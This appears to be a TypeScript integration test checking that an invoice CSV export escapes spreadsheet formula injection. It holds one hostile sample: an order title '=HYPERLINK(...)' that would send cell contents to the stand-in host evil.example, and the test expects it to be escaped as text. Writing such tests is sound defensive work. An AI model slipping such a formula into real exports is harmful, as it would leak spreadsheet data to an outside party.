import { FixedClock } from '../src/platform/clock';
import { AcceptServiceOrderQuoteDocument, PlaceServiceOrderDocument, QuoteServiceOrderDocument } from './generated/graphql';
import { A, directoryIds, local, phoneTicket, type Ids } from './support/fixtures';
import { startTestApp, type TestApp } from './support/test-app';

/** Issue 13, items 3, 18 and 15 (first-line resolution per service): the exports and the forum's SLA report. */

const clock = new FixedClock(local('2027-05-03T09:00'));
let t: TestApp;
let ids: Ids;
const base = () => `http://127.0.0.1:${t.port}`;
const get = async (as: string, path: string) => fetch(`${base()}${path}`, { headers: { authorization: `Bearer ${await t.token(as)}` } });

beforeAll(async () => {
  t = await startTestApp({ clock });
  ids = await directoryIds(t);
}, 60_000);
afterAll(() => t?.stop());

describe('CSV exports (item 3)', () => {
  it('an order titled as a spreadsheet formula comes out of /invoices/<month>.csv as text, and the amounts stay numbers', async () => {
    const payload = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const ticket = await phoneTicket(t, ids, { title: 'Tilläggstjänst' });
    const placed = await t.gql(A.customer, PlaceServiceOrderDocument, { input: { ticketId: ticket.id, kind: 'ADD_ON', title: payload, description: 'Enligt underlag.' } } as never);
    const orderId = placed.data!.placeServiceOrder.order!.id;
    expect((await t.gql(A.accountManager, QuoteServiceOrderDocument, { input: { orderId, quote: 'Offert', monthlyPrice: 4500 } })).data!.quoteServiceOrder.userErrors).toEqual([]);
    expect((await t.gql(A.customer, AcceptServiceOrderQuoteDocument, { orderId })).data!.acceptServiceOrderQuote.order!.status).toBe('ORDERED');

    const res = await get(A.accountManager, `/invoices/2027-05.csv?agencyId=${ids.skatteverket}`);
    expect(res.status).toBe(200);
    expect((await res.text()).split('\r\n')).toEqual([
      'month,agency,kind,reference,description,hours,unit_price_sek,total_sek',
      `2027-05,Skatteverket,ADD_ON,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","Tilläggstjänst, månadsavgift",,4500.00,4500.00`,
      '2027-05,Skatteverket,AGENCY_TOTAL,,,,,4500.00',
      '2027-05,,TOTAL,,,,,4500.00',
      '',
    ]);
  });
});
